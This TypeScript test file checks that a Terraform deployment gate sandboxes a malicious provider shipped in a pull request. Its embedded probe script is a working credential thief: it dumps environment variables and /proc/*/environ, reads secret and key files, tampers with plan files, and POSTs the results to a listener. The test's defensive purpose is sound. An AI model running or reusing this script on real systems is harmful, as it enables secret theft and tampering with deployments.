/**
 * Issue 11, tried as an attacker would: a pull request ships a provider (an executable committed under
 * terraform.d/plugins) that, at plan time, looks for every secret, key and environment variable it can
 * read and tries to write into a deploy run's artifacts. It must find nothing secret and must not
 * change what the deploy run applies.
 *
 * Real terraform is needed: only it executes a provider during plan (the terraform double has no
 * providers). The test is skipped, saying so, on machines without it.
 */
import { createHash } from 'node:crypto';
import { existsSync } from 'node:fs';
import { readFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { commitAndPush } from '../../src/local-mode/git-repos.js';
import {
  decideThroughPage,
  nextApproval,
  pushChange,
  REPOSITORY,
  runForSha,
  sendPullRequest,
  startTestStack,
  terraformFiles,
  type TestStack,
  until,
  waitForRun,
  waitForStage,
} from '../support/local-stack.js';

const REAL_TERRAFORM = '/usr/local/bin/terraform';
const hasTerraform = existsSync(REAL_TERRAFORM);
const TOKEN_CANARY = 'ghp_tfgateCanaryToken0123456789abcdefXYZ';

function probeScript(dataDir: string, port: number): string {
  return `#!/bin/sh
# A provider that is nothing but a thief: it runs when terraform loads providers during plan, and sends
# what it found over the network (the sandbox shows it no directory of the test's to write to).
{
  echo "uid=$(id -u) gid=$(id -g)"
  echo "--- env"; env
  echo "--- /proc/*/environ"
  for f in /proc/[0-9]*/environ; do tr '\\0' '\\n' < "$f" 2>/dev/null; done
  echo "--- files in the data directory"
  for f in $(find "${dataDir}" -type f 2>/dev/null) \\
      "${dataDir}"/secrets/* "${dataDir}"/webhook-secret "${dataDir}"/link-key; do
    echo "== $f"; head -c 20000 "$f" 2>/dev/null
  done
  echo "--- tamper"
  for p in "${dataDir}"/artifacts/runs/*/*/plan/tfplan "${dataDir}"/artifacts/runs/*/*/plan/summary.json; do
    if printf 'tampered' >> "$p" 2>/dev/null; then echo "TAMPERED $p"; fi
  done
  for d in "${dataDir}"/artifacts/runs/*/apps; do
    if mkdir -p "$d/plan" 2>/dev/null && printf 'x' > "$d/plan/tfplan" 2>/dev/null; then echo "WROTE $d/plan/tfplan"; fi
  done
  echo "--- done"
} 2>&1 | node -e "
  let b = '';
  process.stdin.on('data', (d) => (b += d)).on('end', () => {
    const r = require('http').request({ host: '127.0.0.1', port: ${port}, method: 'POST' }, (s) => s.resume());
    r.on('error', () => {});
    r.end(b);
  })"
sleep 1
exit 1
`;
}

describe.skipIf(!hasTerraform)('a pull request whose provider hunts for secrets at plan time (real terraform)', () => {
  let stack: TestStack;
  let server: Server;
  let port = 0;
  let found = '';
  const savedToken = process.env.TFGATE_GITHUB_TOKEN;

  beforeAll(async () => {
    // tfgate local's own environment holds a GitHub token; the probe must not find it anywhere.
    process.env.TFGATE_GITHUB_TOKEN = TOKEN_CANARY;
    server = createServer((request, response) => {
      request.on('data', (chunk: Buffer) => (found += chunk.toString('utf8')));
      request.on('end', () => response.end('ok'));
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    port = (server.address() as AddressInfo).port;
    stack = await startTestStack({
      terraform: REAL_TERRAFORM,
      github: { credentials: { kind: 'token', token: TOKEN_CANARY } },
    });
  }, 300_000);

  afterAll(async () => {
    if (savedToken === undefined) delete process.env.TFGATE_GITHUB_TOKEN;
    else process.env.TFGATE_GITHUB_TOKEN = savedToken;
    await stack?.cleanup();
    await new Promise<void>((resolve) => server.close(() => resolve()));
  });

  it('finds nothing secret and cannot change what the deploy run applies', async () => {
    // A deploy run waits for approval of apps, its plan saved.
    const approval = nextApproval(stack, 120_000);
    const deploySha = await pushChange(stack, terraformFiles({ network: 'n' }));
    const deploy = await runForSha(stack, deploySha, 60_000);
    const request = await approval;
    const recorded = request.approval.planSha256;
    const planFile = path.join(stack.dataDir, 'artifacts', 'runs', deploy.id, 'apps', 'plan', 'tfplan');
    expect(
      createHash('sha256')
        .update(await readFile(planFile))
        .digest('hex'),
    ).toBe(recorded);

    // The pull request: its provider runs during the plan.
    const remote = stack.remotes.find((r) => r.repository === REPOSITORY)!.remote;
    const providerPath =
      'terraform.d/plugins/registry.terraform.io/evil/probe/1.0.0/linux_amd64/terraform-provider-probe_v1.0.0';
    const prSha = await commitAndPush(remote, {
      branch: 'feature',
      message: 'innocent-looking change',
      quiet: true,
      files: {
        'main.tf':
          'terraform {\n  required_providers {\n    probe = { source = "evil/probe", version = "1.0.0" }\n  ' +
          '}\n}\nprovider "probe" {}\n',
        [providerPath]: probeScript(stack.dataDir, port),
      },
      executable: [providerPath],
    });
    const answer = await sendPullRequest(stack, prSha);
    const prRun = await waitForRun(stack, answer.body.runId!, 120_000);
    expect(prRun.mode).toBe('plan_only');

    // It did run, in its sandbox, and looked.
    await until('the probe to report', () => (found.includes('--- done') ? true : undefined), 30_000);
    expect(found).toMatch(/^uid=/);
    for (const secret of [stack.webhookSecret, stack.sessionKey, stack.localCredential, TOKEN_CANARY])
      expect(found).not.toContain(secret);
    // Inside the sandbox /tmp is its own (in memory): what the probe believes it wrote must not be on the host.
    for (const [, file] of found.matchAll(/^(?:TAMPERED|WROTE) (.+)$/gm)) expect(existsSync(file!), file).toBe(false);

    // The deploy run applies exactly the plan that was approved.
    expect(
      createHash('sha256')
        .update(await readFile(planFile))
        .digest('hex'),
    ).toBe(recorded);
    const link = request.url;
    expect((await decideThroughPage(link, 'approve')).status).toBe(200);
    const done = await waitForStage(stack, deploy.id, 'apps', 'applied', 120_000);
    expect(done.stages.find((s) => s.environment === 'apps')!.plan!.sha256).toBe(recorded);
  }, 300_000);
});
